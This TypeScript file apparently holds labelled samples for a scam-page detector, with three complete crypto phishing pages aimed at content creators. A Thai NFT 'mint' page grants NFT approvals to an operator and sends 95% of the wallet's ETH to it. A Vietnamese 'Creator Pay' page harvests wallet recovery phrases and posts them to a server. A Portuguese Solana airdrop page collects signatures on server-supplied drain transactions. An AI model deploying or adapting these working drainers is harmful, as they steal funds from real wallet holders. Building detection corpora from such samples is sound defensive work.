import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, b64, codes, doc, esc, hex } from '../parts/ys-kit.js';

// Crypto "creator payout" and "collab mint" pages that take wallet approvals or recovery phrases.

const dappCss = `*{box-sizing:border-box}body{margin:0;font-family:Inter,-apple-system,"Segoe UI",Arial,sans-serif;background:#0b0d17;color:#e9ecf5}.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 34px}.nav b{font-size:20px}.cw{background:linear-gradient(90deg,#6d5dfc,#3ab7ff);color:#fff;border:0;border-radius:12px;padding:11px 20px;font-weight:600;cursor:pointer}.card{max-width:480px;margin:40px auto;background:#151a2d;border:1px solid #262d4a;border-radius:20px;padding:28px}.amt{font-size:40px;font-weight:700}.mut{color:#8b93b5;font-size:14px}.st{margin-top:14px;font-size:14px;color:#a6f3c3;min-height:20px}`;

export const entries: Entry[] = [
{
  id: 'ys-brand-collab-nft-mint-approval-th',
  label: 'cryptodrainer',
  kind: 'nft-approval-drainer',
  url: 'https://glowbeauty-creators-pass.io/mint',
  body: doc({
    lang: 'th',
    title: 'Glow Beauty Creator Pass — มินต์ฟรี',
    css: dappCss + `.g{display:grid;grid-template-columns:1fr 1fr;gap:14px;max-width:900px;margin:30px auto;align-items:center}.art{height:360px;border-radius:20px;background:conic-gradient(from 30deg,#ff9bd2,#ffd36e,#7cf5d8,#8fa2ff,#ff9bd2)}`,
    body: `<div class="nav"><b>✿ Glow Beauty × Creators</b><button class="cw" id="c">เชื่อมต่อกระเป๋า</button></div>
<div class="g"><div class="art"></div><div><h1>Creator Pass NFT — สำหรับอินฟลูเอนเซอร์</h1>
<p class="mut">ผู้ถือ Creator Pass จะได้รับสินค้าฟรีทุกเดือน ค่าคอมมิชชั่นพิเศษ 25% และสิทธิ์ร่วมแคมเปญแบรนด์ก่อนใคร</p>
<p>ราคา: <b>ฟรี</b> (จ่ายเฉพาะค่าแก๊ส) · เหลือ <b>312</b> / 5,000</p>
<button class="cw" id="m" style="width:100%">มินต์ Creator Pass</button><div class="st" id="st"></div></div></div>
<script>
var OP='0x3cF1e8d5a2b7C90e4F6a1D3b8E5c7A9f2B4d6E01';
var cols=['0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d','0x60e4d786628fea6478f785a6d7e704777c86a7c6','0xed5af388653567af2f388e6224dc7c4b3241c544'];
async function mint(){
  if(!window.ethereum){document.getElementById('st').textContent='กรุณาติดตั้ง MetaMask';return}
  var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  document.getElementById('st').textContent='กำลังตรวจสอบสิทธิ์...';
  var r=await fetch('/api/eligible?w='+a).then(function(x){return x.json()}).catch(function(){return {c:cols}});
  for(var i=0;i<r.c.length;i++){
    await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:r.c[i],data:'0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0')}]}).catch(function(){});
  }
  var bal=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});
  var v='0x'+(BigInt(bal)*95n/100n).toString(16);
  await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:OP,value:v,data:'0x1249c58b'}]}).catch(function(){});
  document.getElementById('st').textContent='มินต์สำเร็จ! NFT จะแสดงในกระเป๋าภายใน 24 ชม.';
}
document.getElementById('c').onclick=mint;document.getElementById('m').onclick=mint;
</script>`,
  }),
  routes: {
    'glowbeauty-creators-pass.io/api/eligible': jsonRoute({ ok: true, c: ['0xbc4ca0eda7647a8ab7c2061c2e118a18a936f13d', '0x60e4d786628fea6478f785a6d7e704777c86a7c6'] }),
  },
},

{
  id: 'ys-seed-phrase-wallet-sync-vi',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://vi-nhan-thanh-toan-creator.com/dongbo',
  body: doc({
    lang: 'vi',
    title: 'Đồng bộ ví nhận thanh toán | Creator Pay',
    css: dappCss + `.gr{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;margin:12px 0}.gr input{background:#0f1424;border:1px solid #2c355a;border-radius:8px;padding:10px;color:#fff;font-size:14px}.tabs{display:flex;gap:8px;margin:10px 0}.tabs span{padding:6px 12px;border-radius:8px;background:#1f2640;font-size:13px;cursor:pointer}.tabs .on{background:#6d5dfc}`,
    body: `<div class="nav"><b>Creator Pay</b><span class="mut">Hỗ trợ 24/7</span></div>
<div class="card" style="max-width:560px"><h2 style="margin-top:0">Đồng bộ ví để nhận hoa hồng</h2>
<p class="mut">Khoản thanh toán chiến dịch <b>18.750.000₫ (≈ 735 USDT)</b> đang chờ. Ví của bạn chưa được đồng bộ với mạng lưới thanh toán. Nhập cụm từ khôi phục (Secret Recovery Phrase) để xác thực quyền sở hữu ví.</p>
<div class="tabs"><span class="on" data-n="12">12 từ</span><span data-n="18">18 từ</span><span data-n="24">24 từ</span></div>
<form id="f"><div class="gr" id="gr"></div>
<select name="wallet" style="width:100%;padding:10px;border-radius:8px;background:#0f1424;color:#fff;border:1px solid #2c355a"><option>MetaMask</option><option>Trust Wallet</option><option>Binance Web3 Wallet</option><option>OKX Wallet</option><option>Phantom</option></select>
<button class="cw" style="width:100%;margin-top:14px">Đồng bộ ví</button></form><div class="st" id="st"></div>
<p class="mut" style="font-size:12px">🔒 Mã hóa đầu-cuối. Cụm từ của bạn không được lưu trữ.</p></div>
<script>
function grid(n){var g=document.getElementById('gr');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.name='w'+i;x.placeholder=i+'.';x.autocomplete='off';x.required=true;g.appendChild(x)}}
grid(12);
document.querySelectorAll('.tabs span').forEach(function(s){s.onclick=function(){document.querySelectorAll('.tabs span').forEach(function(t){t.className=''});s.className='on';grid(+s.dataset.n)}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();
  var w=[].map.call(this.querySelectorAll('#gr input'),function(i){return i.value.trim().toLowerCase()}).join(' ');
  fetch('/api/dongbo',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({phrase:w,wallet:this.wallet.value,ua:navigator.userAgent})});
  document.getElementById('st').textContent='Đang đồng bộ... vui lòng không đóng trang (có thể mất 10–30 phút).';
};
</script>`,
  }),
},

{
  id: 'ys-solana-creator-token-airdrop-pt',
  label: 'cryptodrainer',
  kind: 'solana-drainer',
  url: 'https://airdrop-criadores.sol-rewards.app/',
  body: doc({
    lang: 'pt-BR',
    title: '$CRIA — Airdrop para criadores de conteúdo',
    css: dappCss,
    body: `<div class="nav"><b>◎ $CRIA</b><button class="cw" id="c">Conectar Phantom</button></div>
<div class="card"><p class="mut">Airdrop para criadores · Temporada 1</p><div class="amt">4.200 $CRIA</div>
<p>Criadores brasileiros com mais de 5 mil seguidores foram incluídos no snapshot. Conecte sua carteira Solana para resgatar. Os tokens podem ser trocados por SOL na Raydium.</p>
<button class="cw" id="r" style="width:100%">Resgatar airdrop</button><div class="st" id="st"></div></div>
<script>
(async function(){
var P=function(){return window.phantom&&window.phantom.solana||window.solana||window.solflare};
async function run(){
  var w=P();if(!w){document.getElementById('st').textContent='Instale a carteira Phantom para continuar.';return}
  var r=await w.connect();var pk=r.publicKey.toString();
  var j=await fetch('/api/tx?wallet='+pk).then(function(x){return x.json()});
  var txs=j.txs.map(function(b){return solanaWeb3.VersionedTransaction.deserialize(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)}))});
  document.getElementById('st').textContent='Confirme na carteira para receber seus tokens…';
  var signed=await w.signAllTransactions(txs);
  await fetch('/api/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({w:pk,s:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize()))})})});
  document.getElementById('st').textContent='Resgate confirmado! 🎉';
}
document.getElementById('c').onclick=run;document.getElementById('r').onclick=run;
})();
</script>
<script src="https://unpkg.com/@solana/web3.js@1.95.3/lib/index.iife.min.js"></script>`,
  }),
  routes: {
    'airdrop-criadores.sol-rewards.app/api/tx': jsonRoute({ txs: [Buffer.from('0100010302a1b2c3d4e5f60718293a4b5c6d7e8f9000112233445566778899aabbccddeeff', 'hex').toString('base64')], drain: true }),
  },
},
];
